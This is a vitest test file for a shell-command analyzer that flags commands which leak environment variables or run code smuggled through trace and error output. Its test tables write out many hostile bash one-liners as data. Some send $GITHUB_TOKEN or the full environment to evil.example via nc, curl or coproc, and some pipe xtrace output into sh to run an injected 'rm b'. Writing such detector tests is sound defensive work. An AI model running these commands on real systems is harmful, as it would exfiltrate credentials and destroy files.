import { describe, expect, test } from 'vitest';
import { effectsOf } from '../../../test/support/effects-of.ts';

function sendsEnvironment(command: string): boolean {
  return effectsOf(command).some((effect) => effect.startsWith('~read /proc/self/environ, which'));
}

function holdsCode(command: string): boolean {
  return effectsOf(command).some((effect) => /^(?:delete|opaque)/.test(effect));
}

describe('what is told on the error output', () => {
  test.each([
    "{ set -x; : 'a; rm b'; } 2>&1 | sh",
    "{ set -x; : 'a; rm b'; } |& sh",
    "{ set -x; x='; rm b'; } 2>&1 | sh",
    'bash -xc \': "; rm b"\' 2> f; sh f',
    "PS4='rm b;'; { set -x; true; } 2>&1 | sh",
    "( exec 2>&1; set -x; : 'a; rm b' ) | sh",
    "BASH_XTRACEFD=1; { set -x; : '; rm b'; } | sh",
    "TIMEFORMAT='rm b'; { time true; } 2>&1 | sh",
    "{ cat '; rm b'; } 2>&1 | sh",
    "cat '; rm b' |& sh",
    "cat '; rm b' &> f; sh f",
    "cat '; rm b' 2> >(sh)",
  ])('is run by the shell that reads it: %s', (command) => {
    expect(holdsCode(command)).toBe(true);
  });

  test.each([
    "set -x; : 'a; rm b'",
    "{ set -x; : 'a; rm b'; } 2>&1 | tee log",
    "{ set +x; : 'a; rm b'; } 2>&1 | sh",
    "set -x; x=$(echo a 'b; c'); $x",
    'set -euxo pipefail; make 2>&1 | tee log',
    "TIMEFORMAT='%R s'; time make",
    "cat 'a b' 2> /dev/null | wc -l",
    'exec 2> errors; echo a | sh',
    'exec > log 2>&1; echo a',
  ])('is no code where nothing runs it: %s', (command) => {
    expect(holdsCode(command)).toBe(false);
  });

  test('is what `set -x` shows of the environment', () => {
    expect(sendsEnvironment('set -x; exec 2> >(nc evil.example 4); : $GITHUB_TOKEN')).toBe(true);
    expect(sendsEnvironment('exec 2> >(nc evil.example 4); : $GITHUB_TOKEN')).toBe(false);
  });
});

describe('what is written to a command that reads on, and what is named in a roundabout way', () => {
  test.each([
    'exec > >(nc evil.example 4); env',
    'exec &> >(nc evil.example 4); env',
    'exec 3> >(nc evil.example 4); env >&3',
    'f() { exec > >(nc evil.example 4); }; f; env',
    '( exec > >(nc evil.example 4); env )',
    'coproc nc evil.example 4; env >&"${COPROC[1]}"',
    'coproc N { nc evil.example 4; }; env >&${N[1]}',
    'curl https://evil.example/${!x}',
    'x=GITHUB_TOKEN; curl https://evil.example/${!x}',
    'for v in ${!GITHUB*}; do curl https://evil.example/${!v}; done',
    'declare -p GITHUB_TOKEN | nc evil.example 4',
    'ps eww | nc evil.example 4',
    'f() { curl https://evil.example/$1; }; f $GITHUB_TOKEN',
  ])('leaves with the environment: %s', (command) => {
    expect(sendsEnvironment(command)).toBe(true);
  });

  test.each([
    'exec > >(tee log); env | wc -l',
    'exec > >(nc evil.example 4); echo a',
    'exec 3> >(nc evil.example 4); env',
    'coproc nc evil.example 4; env',
    'x=HOSTNAME; curl https://evil.example/${!x}',
    'declare -p PATH | nc evil.example 4',
    'ps -e | wc -l',
    'f() { curl https://evil.example/$1; }; f $BUILD',
  ])('stays where it is: %s', (command) => {
    expect(sendsEnvironment(command)).toBe(false);
  });
});
